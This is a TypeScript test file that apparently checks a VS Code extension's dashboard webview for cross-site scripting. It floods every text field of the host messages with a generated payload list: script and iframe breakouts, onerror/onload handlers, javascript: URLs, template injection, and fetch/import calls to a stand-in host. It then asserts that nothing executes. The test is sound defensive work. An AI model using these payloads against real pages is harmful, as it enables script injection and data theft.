import { beforeAll, describe, expect, test } from 'vitest';
import { DASHBOARD_TABS } from '../../src/core/dashboard/dashboardTabs.ts';
import { parseHostMessage } from '../../src/protocol/hostMessage.ts';
import { makeAgentLogs } from '../fixtures/agentLogs.ts';
import { writeFiles } from '../node/temporaryFolder.ts';
import { nextMessage } from '../rig/drive.ts';
import { dashboardFrame, showDashboard, showTab } from './support/dashboard.ts';
import { fillBuilder } from './support/fillBuilder.ts';
import { useWorkbench } from './support/useWorkbench.ts';

/** Ways out of a text; `@` is what would run then. */
const TEMPLATES = [
  '<script>@</script>',
  '"><script>@</script>',
  "'><script>@</script>",
  '</title><script>@</script>',
  '</textarea><script>@</script>',
  '</style><script>@</script>',
  '--><script>@</script>',
  ']]><script>@</script>',
  '<img src=x onerror="@">',
  '"><img src=x onerror=@>',
  '<svg onload="@">',
  '<svg><animate onbegin="@" attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:@">x</mi></math>',
  '<iframe srcdoc="<script>@</script>"></iframe>',
  '<iframe src="javascript:@"></iframe>',
  '<a href="javascript:@">x</a>',
  '<details open ontoggle="@">',
  '<input autofocus onfocus="@">',
  '<style>@import "javascript:@"</style>',
  '<link rel=stylesheet href="javascript:@">',
  '<base href="javascript:@//">',
  '<object data="javascript:@"></object>',
  '" onmouseover="@" x="',
  ['$', '{@}'].join(''),
  '{{constructor.constructor("@")()}}',
];
const CODES = [
  'globalThis.broken=1',
  'top.broken=1',
  "eval('globalThis.broken=1')",
  "Function('globalThis.broken=1')()",
  'document.body.dataset.broken=1',
  "fetch('//example.com')",
  "import('//example.com/x.js')",
  'new Image().src="//example.com/x"',
  'parent.postMessage("broken")',
  'acquireVsCodeApi()',
];
const PAYLOADS = TEMPLATES.flatMap((template) => CODES.map((code) => template.replaceAll('@', code)));
/** What our own page has of these. */
const FOREIGN =
  'main :is(script, img, iframe, object, embed, link, base, style, math, a[href^="javascript"])';

type Path = readonly (string | number)[];

/** Where a snapshot holds texts that may be anything, found by putting one there. */
function listFreeTexts(message: unknown): Path[] {
  return listTexts(message, []).filter((path) => {
    const changed = structuredClone(message);
    setAt(changed, path, 'any <text>');
    return parseHostMessage(changed) !== undefined;
  });
}

function listTexts(value: unknown, path: Path): Path[] {
  if (typeof value === 'string') return [path];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) => listTexts(inner, [...path, key]));
}

function setAt(target: unknown, path: Path, text: string): void {
  const [key, ...rest] = path as [string, ...string[]];
  const holder = target as Record<string, unknown>;
  if (rest.length === 0) holder[key] = text;
  else setAt(holder[key], rest, text);
}

describe('hostile names in every place of the dashboard', () => {
  const it = useWorkbench({ 'a.ts': 'export const a = 1;\n' });
  beforeAll(async () => {
    writeFiles(it.workbench.home, makeAgentLogs(Date.now()));
    await fillBuilder(it.page);
  });

  test.each(DASHBOARD_TABS)('are text and nothing else: %s', async (tab) => {
    await showDashboard(it.page);
    const frame = await dashboardFrame(it.page);
    const title = tab.charAt(0).toUpperCase() + tab.slice(1);
    await showTab(it.page, title);
    const message = nextMessage(frame);
    await frame.getByRole('tab', { name: title }).click();
    const snapshot = await message;
    expect(parseHostMessage(snapshot)).toBeDefined();
    const paths = listFreeTexts(snapshot);
    expect(paths.length).toBeGreaterThan(3);
    for (const payload of PAYLOADS) {
      const hostile = structuredClone(snapshot);
      for (const [index, path] of paths.entries()) setAt(hostile, path, `${payload}${index}`);
      await frame.evaluate((data) => window.postMessage(data, window.origin), hostile);
    }
    await expect.poll(() => frame.locator('main').textContent()).toContain(PAYLOADS.at(-1));
    const found = await frame.evaluate(
      (foreign) => ({
        broken: [Reflect.get(globalThis, 'broken'), document.body.dataset['broken']],
        foreign: [...document.querySelectorAll(foreign)].map(({ outerHTML }) => outerHTML),
        handlers: [...document.querySelectorAll('main *')].filter((element) =>
          [...element.attributes].some(({ name }) => name.startsWith('on')),
        ).length,
      }),
      FOREIGN,
    );
    expect(found).toEqual({ broken: [undefined, undefined], foreign: [], handlers: 0 });
  });
});
